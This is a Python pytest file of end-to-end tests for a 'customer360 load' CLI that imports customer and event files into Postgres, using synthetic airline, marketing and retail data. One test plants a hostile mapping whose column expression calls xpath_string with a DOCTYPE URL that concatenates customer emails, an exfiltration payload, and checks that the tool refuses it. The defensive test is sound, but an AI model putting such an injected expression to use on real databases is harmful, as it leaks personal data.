"""`customer360 load` as a person types it, on files shaped like public ones."""

from __future__ import annotations

import csv
import json
import os
import pty
import subprocess
import sys
from importlib.util import find_spec
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from customer360.postgres.connection import Database
from tests.statements import fetch

pytestmark = pytest.mark.slow  # each test starts its own process

CODE = "from customer360.commands.cli import main; main()"


def load(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-c", CODE, "load", *arguments]
    return subprocess.run(command, capture_output=True, text=True, cwd=folder, stdin=subprocess.DEVNULL)


def airline(folder: Path) -> Path:
    """Monthly enrolments, statuses of its own, no login, like the data of a flight loyalty programme."""
    rows = [
        [100_000 + i, "Canada", "Toronto", "Male" if i % 2 else "Female", ["Star", "Nova", "Aurora"][i % 3],
         f"{2_000 + i * 1.37:.2f}", 2012 + i % 6, 1 + i % 12, 2018 if i % 10 == 0 else "", 7 if i % 10 == 0 else ""]
        for i in range(300)
    ]  # fmt: skip
    path = folder / "Customer Loyalty History.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([
            ["Loyalty Number", "Country", "City", "Gender", "Loyalty Card", "CLV", "Enrollment Year",
             "Enrollment Month", "Cancellation Year", "Cancellation Month"], *rows,
        ])  # fmt: skip
    return path


def personality(folder: Path) -> Path:
    """Tab-separated, day first, with spending instead of a balance, like the data of a marketing campaign."""
    lines = ["ID\tYear_Birth\tDt_Customer\tRecency\tMntWines\tMntFruits"]
    lines += [
        f"{5000 + i}\t{1950 + i % 50}\t{1 + i % 28:02d}-{1 + i % 12:02d}-2013\t{i % 100}\t{i * 3}\t{i}"
        for i in range(200)
    ]
    path = folder / "marketing_campaign.csv"
    path.write_text("\n".join(lines))
    return path


def retail(folder: Path) -> Path:
    """Order lines in Windows-1252, month first, a quarter without a customer, like the data of an online shop."""
    lines = ["InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country"]
    for i in range(400):
        customer = "" if i % 4 == 0 else f"{12_000 + i % 37}.0"
        quantity = -1 if i % 50 == 1 else 1 + i % 5
        lines.append(
            f'{"C" if quantity < 0 else ""}{536365 + i},85123A,"CAFÉ, ""SMALL""",{quantity},12/{1 + i % 28}/2010 8:26,2.55,{customer},EIRE'
        )
    path = folder / "Online Retail.csv"
    path.write_bytes("\r\n".join(lines).encode("cp1252"))
    return path


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["nothing.csv", "--dry-run"], 1, "file not found: nothing.csv"),
        (["--dry-run"], 1, "name the file that contains your customers"),
        (["empty.csv", "--dry-run"], 1, "empty.csv is empty"),
        (["members.csv", "--delimiter", ";", "--dry-run"], 1, "try --delimiter ','"),
        (["members.csv", "--delimiter", ",,"], 2, "invalid delimiter ',,'; write one character, or tab"),
        (["members.csv", "--max-rejected", "500%"], 2, "invalid share '500%'; write 5% or 0.05"),
        (["members.csv", "--mapping", "no.toml", "--dry-run"], 1, "cannot read the mapping no.toml"),
        (["members.csv", "--append", "--dry-run"], 1, "--append only adds events of the customers in the database"),
        (["members.csv", "--events", "members.csv", "--append"], 1, "omit the customers"),
        (["members.csv", "--events", "nothing.csv", "--dry-run"], 1, "file not found: nothing.csv"),
        (["--from-database", "postgresql://a:s3cret@127.0.0.1:1/x", "--table", "t", "--dry-run"], 1, "cannot connect to a@"),
        (["--from-database", "postgresql://a:s3cret@127.0.0.1:1/x", "--dry-run"], 1, "either --table or --query"),
    ],
)  # fmt: skip
def test_a_mistake_is_one_line_and_an_exit_code(
    tmp_path: Path, arguments: list[str], code: int, said: str
) -> None:
    """Before a database is touched."""
    (tmp_path / "empty.csv").touch()
    (tmp_path / "members.csv").write_text("id,joined\n1,2024-01-02\n")

    run = load(tmp_path, *arguments)

    line = run.stderr.splitlines()[-1]
    assert run.returncode == code, run.stderr
    assert line.startswith("customer360: ")
    assert said in line
    assert "s3cret" not in run.stderr
    assert "Traceback" not in run.stderr


def test_without_a_person_the_guess_is_written_and_nothing_is_loaded(tmp_path: Path, database: Database) -> None:
    """A script passes --yes, or a mapping that someone has read."""
    run = load(tmp_path, str(airline(tmp_path)), "--database", database.url)

    assert run.returncode == 1
    assert (
        "the mapping needs your confirmation, and there is no terminal to ask; "
        "review Customer_Loyalty_History.mapping.toml" in run.stderr
    )
    assert 'order = ["Star", "Nova", "Aurora"]' in (tmp_path / "Customer_Loyalty_History.mapping.toml").read_text()
    assert fetch(database, "SELECT to_regclass('public.customers') IS NULL") == [(True,)]


def test_a_person_is_asked_and_may_say_no(tmp_path: Path, database: Database) -> None:
    """On a terminal."""
    path = airline(tmp_path)
    lead, follow = pty.openpty()
    command = [sys.executable, "-c", CODE, "load", str(path), "--database", database.url]
    with subprocess.Popen(
        command, stdin=follow, stdout=follow, stderr=subprocess.PIPE, cwd=tmp_path, text=True
    ) as process:
        os.write(lead, b"n\n")
        shown = os.read(lead, 100_000).decode()
        _, said = process.communicate(timeout=60)
    os.close(follow)
    os.close(lead)

    assert process.returncode == 1
    assert (
        "nothing was changed; edit Customer_Loyalty_History.mapping.toml, then run the same command again" in said
    )
    assert shown


def test_a_dry_run_says_what_would_happen_and_changes_nothing(tmp_path: Path, home: Path) -> None:
    """It creates neither a database nor a file."""
    path = personality(tmp_path)
    command = [sys.executable, "-c", CODE, "load", path.name, "--dry-run", "--json"]
    run = subprocess.run(
        command, capture_output=True, text=True, cwd=tmp_path, env={**os.environ, "CUSTOMER360_HOME": str(home)}
    )

    assert run.returncode == 0, run.stderr
    found = json.loads(run.stdout)
    columns = {"customer_id": "ID", "source_id": "ID", "join_date": "Dt_Customer"}
    assert found["plan"]["mapping"]["columns"] == columns
    assert (found["rows_in"], found["rows_loaded"], found["dry_run"]) == (200, 200, True)
    assert found["formats"] == {"join_date": "day first"}
    assert [file.name for file in tmp_path.iterdir()] == [path.name]
    assert list(home.iterdir()) == []


@pytest.mark.skipif(not (find_spec("tomllib") or find_spec("tomli")), reason="no reader of TOML")
@pytest.mark.parametrize(("unread", "is_given_up"), [(4, True), (1, False)])
def test_an_unreadable_birth_date_rejects_no_customer(
    tmp_path: Path, home: Path, unread: int, is_given_up: bool
) -> None:
    """No number of the report depends on it; a few bad ones are rejected rows like any others."""
    births = ["sometime"] * unread + ["1980-02-03"] * (40 - unread)
    rows = [f"{number},2024-01-02,{birth}" for number, birth in enumerate(births, start=1)]
    (tmp_path / "members.csv").write_text("\n".join(["customer_id,join_date,birth_date", *rows, ""]))

    run = load(tmp_path, "members.csv", "--dry-run")

    assert run.returncode == 0, run.stderr
    expected = "not loaded: birth_date, because 4 of its cells cannot be read, first in line 2: 'sometime'"
    assert (expected in run.stdout) == is_given_up
    assert ("40 customers would be loaded" in run.stdout) == is_given_up


def test_three_commands_bring_own_customers_to_results(tmp_path: Path, database: Database) -> None:
    """Guess, correct, load; then the order lines of a shop replace them."""
    airline(tmp_path)
    at = ["--database", database.url]
    first = load(tmp_path, "Customer Loyalty History.csv", "--yes", *at)
    assert first.returncode == 0, first.stderr
    assert "300 customers loaded into public.customers from 300 rows" in first.stdout
    assert "not in your data: name, email, birth_date, first_purchase, last_login, loyalty_points" in first.stdout
    assert fetch(
        database, "SELECT count(*), count(join_date), count(*) FILTER (WHERE NOT is_active) FROM public.customers"
    ) == [(300, 300, 30)]

    mapping = tmp_path / "Customer_Loyalty_History.mapping.toml"
    mapping.write_text(mapping.read_text() + '\n[values.gender]\nMale = "male"\nFemale = "female"\n')
    mapping.write_text(mapping.read_text().replace("[constants]", '[constants]\nname = "A member"'))
    again = load(tmp_path, "Customer Loyalty History.csv", "--mapping", mapping.name, "--replace", *at)
    assert again.returncode == 0, again.stderr
    assert fetch(database, "SELECT DISTINCT gender, name FROM public.customers ORDER BY 1") == [
        ("female", "A member"), ("male", "A member"),
    ]  # fmt: skip

    retail(tmp_path)
    lines = load(
        tmp_path,
        "--transactions",
        "Online Retail.csv",
        "--yes",
        "--replace",
        "--max-rejected",
        "30%",
        "--json",
        *at,
    )
    found = json.loads(lines.stdout)
    assert (found["rows_in"], found["rows_rejected"], found["customers"], found["cancelled_lines"]) == (
        400,
        100,
        37,
        8,
    )
    assert fetch(database, "SELECT count(*) FROM analytics.rejected_rows") == [(100,)]


@pytest.mark.skipif(not (find_spec("tomllib") or find_spec("tomli")), reason="no reader of TOML")
def test_uncounted_orders_are_confirmed_and_omitted(tmp_path: Path, database: Database) -> None:
    """The plan shows the condition, which the mapping contains as a comment."""
    statuses = ["Approved"] * 7 + ["Cancelled"] * 2 + [""]
    lines = [f"{9000 + i},{i % 2},2024-01-0{1 + i % 9},10.00,{status}" for i, status in enumerate(statuses)]
    (tmp_path / "orders.csv").write_text("\n".join(["id,customer_id,order_date,amount,order_status", *lines]))
    at = ["--database", database.url]

    asked = load(tmp_path, "--transactions", "orders.csv", *at)
    assert "note: order_status has Approved (7), Cancelled (2) in the first rows" in asked.stdout
    mapping = tmp_path / "orders.mapping.toml"
    mapping.write_text(mapping.read_text().replace("# where =", "where ="))
    done = load(tmp_path, "--transactions", "orders.csv", "--yes", "--json", *at)

    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    assert (found["rows_in"], found["rows_loaded"], found["rows_rejected"], found["rows_left_out"]) == (
        10,
        8,
        0,
        2,
    )
    assert fetch(database, "SELECT sum(amount) FROM public.events") == [(80,)]


def test_a_hostile_mapping_next_to_the_file_leaks_nothing(tmp_path: Path) -> None:
    """It is found by its name and used without a question; the functions that it calls are refused."""
    (tmp_path / "members.csv").write_text("id,joined,email\n1,2024-01-02,a@example.com\n")
    leak = "xpath_string(concat('<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/', email, '\"><a/>'), 'a')"
    (tmp_path / "members.mapping.toml").write_text(
        f"[columns]\ncustomer_id = 'id'\njoin_date = 'joined'\ncity = '''{leak}'''\n"
    )

    run = load(tmp_path, "members.csv", "--yes", "--dry-run", "--master", "no-such-master")

    assert run.returncode == 1
    assert "the expression for city calls xpath_string(), which is not allowed" in run.stderr.splitlines()[-1]


def test_a_load_starts_no_engine(tmp_path: Path, database: Database) -> None:
    """Neither an engine nor pandas is imported: most files take a second."""
    path = personality(tmp_path)
    watched = (
        f"import atexit, sys; atexit.register(lambda: print({{'pyspark', 'pandas'}} & {{*sys.modules}})); {CODE}"
    )
    command = [sys.executable, "-c", watched, "load", path.name, "--yes", "--json", "--database", database.url]

    run = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path)

    assert run.returncode == 0, run.stderr
    assert run.stdout.splitlines()[-1] == "set()"
    assert fetch(database, "SELECT count(*), min(join_date)::text FROM public.customers") == [(200, "2013-01-01")]


def test_nanoseconds_in_a_list_need_pandas_and_get_it(tmp_path: Path, database: Database) -> None:
    """Python has no such type; the column is useless, but must not cause an error."""
    path = tmp_path / "members.parquet"
    seen = pa.array([[1], [1_700_000_000_123_456_789]], pa.list_(pa.timestamp("ns")))
    pq.write_table(pa.table({"customer_id": [1, 2], "join_date": ["2024-01-01"] * 2, "seen": seen}), path)

    run = load(tmp_path, path.name, "--yes", "--database", database.url)

    assert run.returncode == 0, run.stderr
    assert fetch(database, "SELECT count(*) FROM public.customers") == [(2,)]


def test_a_table_of_another_database_is_a_source_too(tmp_path: Path, database: Database) -> None:
    """Its types are kept, and the table is not changed."""
    with database.connect() as connection:
        connection.execute(
            """CREATE TABLE members AS SELECT i AS id, 'M' || i AS "Full Name", date '2024-01-01' + i AS joined,
                 timestamptz '2024-06-01 10:00+02' AS last_seen, i * 1.5::numeric(10,2) AS balance, i % 2 = 0 AS active
               FROM generate_series(1, 50) i"""
        )

    run = load(
        tmp_path, "--from-database", database.url, "--query", "SELECT * FROM members WHERE id > 10;",
        "--database", database.url, "--yes",
    )  # fmt: skip

    assert run.returncode == 0, run.stderr
    assert fetch(
        database, "SELECT count(*), min(last_login)::text, sum(account_balance) FROM public.customers"
    ) == [(40, "2024-06-01 08:00:00", sum(i * 1.5 for i in range(11, 51)))]


def test_numbers_without_end_are_rounded_to_cents(tmp_path: Path, database: Database) -> None:
    """A ratio has more decimals than any decimal type."""
    with database.connect() as connection:
        connection.execute(
            "CREATE TABLE \"Our Members\" AS SELECT i AS customer_id, date '2024-01-01' + i AS join_date, "
            "i * 1.0 / 7 AS account_balance FROM generate_series(1, 7) i"
        )
        connection.execute("""UPDATE "Our Members" SET account_balance = 'Infinity' WHERE customer_id = 7""")

    run = load(
        tmp_path, "--from-database", database.url, "--table", 'public."Our Members"',
        "--database", database.url, "--yes",
    )  # fmt: skip

    assert run.returncode == 0, run.stderr
    assert fetch(
        database, "SELECT array_agg(account_balance::text ORDER BY customer_id) FROM public.customers"
    ) == [(["0.14", "0.29", "0.43", "0.57", "0.71", "0.86", None],)]


def test_a_person_loads_members_with_their_events_and_adds_to_them_each_night(
    tmp_path: Path, database: Database
) -> None:
    """Both plans are shown; existing events are distinguished from new ones; loading again loses nothing."""
    (tmp_path / "members.csv").write_text("customer_id,name\nM-1,Ann\nM-2,Bob\n")
    header, rows = "id,member,date,type,amount", ["1,M-1,2024-02-01,Sale,5", "2,M-2,2024-02-02,return,-1"]
    (tmp_path / "ledger.csv").write_text("\n".join([header, *rows]))
    at = ["--database", database.url, "--yes"]

    first = load(tmp_path, "members.csv", "--events", "ledger.csv", *at)
    (tmp_path / "ledger.csv").write_text(
        "\n".join([header, *rows, "3,M-2,2024-02-03,Sale,7", "4,M-9,2024-02-03,Sale,7"])
    )
    night = ["--events", "ledger.csv", "--append", "--max-rejected", "30%"]
    added = load(tmp_path, *night, *at)
    again = load(tmp_path, *night, "--json", *at)

    assert (first.returncode, added.returncode, again.returncode) == (0, 0, 0), first.stderr + added.stderr
    assert "  kind: Sale is purchase, return is refund" in first.stdout
    assert "2 customers loaded into public.customers from 2 rows of members.csv" in first.stdout
    assert "2 events loaded into public.events from 2 rows of ledger.csv" in first.stdout
    assert "1 events added to public.events from 4 rows of ledger.csv" in added.stdout
    assert "2 rows repeat another row or an existing event and are ignored" in added.stdout
    assert "event_customer_unknown" in added.stdout
    found = json.loads(again.stdout)
    assert (found["events"], found["rows_identical"], found["rows_rejected"]) == (0, 3, 1)
    assert found["plan"]["rows_are"] == "events"
    bought = "SELECT name, sum(amount)::float FROM public.events JOIN public.customers USING (customer_id) GROUP BY 1 ORDER BY 1"
    assert fetch(database, bought) == [("Ann", 5.0), ("Bob", 6.0)]
    assert fetch(database, "SELECT count(*) FROM analytics.rejected_rows WHERE source = 'public.events'") == [(1,)]
